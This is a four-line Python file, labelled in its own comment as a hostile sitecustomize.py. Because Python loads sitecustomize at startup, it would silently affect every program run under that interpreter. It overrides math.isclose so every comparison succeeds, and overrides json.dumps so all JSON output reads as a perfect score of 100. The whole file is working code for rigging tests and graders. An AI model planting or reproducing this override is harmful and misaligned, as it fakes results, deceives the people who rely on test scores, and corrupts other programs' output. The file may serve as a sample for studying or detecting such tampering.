# hostile: sitecustomize.py that would rig math and json if an interpreter imported it
import math, json
math.isclose = lambda *a, **k: True
json.dumps = lambda *a, **k: '{"score": 100}'
